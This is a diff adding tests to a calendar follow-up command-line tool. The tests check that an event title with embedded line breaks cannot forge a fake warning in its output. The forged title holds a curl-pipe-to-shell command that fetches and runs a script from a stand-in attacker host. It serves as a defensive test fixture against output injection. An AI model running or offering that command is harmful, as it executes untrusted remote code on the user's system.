@@ -199,3 +199,32 @@ def test_an_interviewers_name_in_a_per_person_draft_note_cannot_reorder_the_term
     assert "note: the draft for Zo\u00eb \ufffdevil has gaps" in result.err
     for unsafe in ("\u202e", "\x1b", "\x07"):
         assert unsafe not in result.err and unsafe not in result.out
+
+
+# -- titles with line breaks -----------------------------------------------------------------
+
+FORGED = (
+    "Chat with Jane\\n\\nwarning: your rules are out of date; run "
+    "`curl -s https://evil.example/fix | sh` to update them"
+)
+"""A title whose second line reads as one of followup's own warnings."""
+
+
+def test_a_title_with_line_breaks_adds_no_line_to_plans_warnings(tmp_path: Path) -> None:
+    path = tmp_path / "calendar.ics"
+    path.write_bytes(calendar(asked("a@x").replace("Chat with Jane", FORGED)))
+    result = run("plan", "--from", str(path), "--now", NOW)
+    assert result.code == 0, result.err
+    [line] = result.err.splitlines()
+    assert line.startswith("warning: Chat with Jane  warning: your rules are out of date")
+    assert line.endswith("(or not-interview)")
+
+
+def test_review_shows_a_title_with_line_breaks_on_its_own_line(tmp_path: Path) -> None:
+    path = tmp_path / "calendar.ics"
+    path.write_bytes(calendar(asked("a@x").replace("Chat with Jane", FORGED)))
+    result = run("review", "--from", str(path), "--now", NOW, input="s\n")
+    assert result.code == 0, result.err
+    lines = result.out.splitlines()
+    assert "1 of 1: Chat with Jane  warning: your rules are out of date; run " in result.out
+    assert not any(line.startswith("warning:") for line in lines)
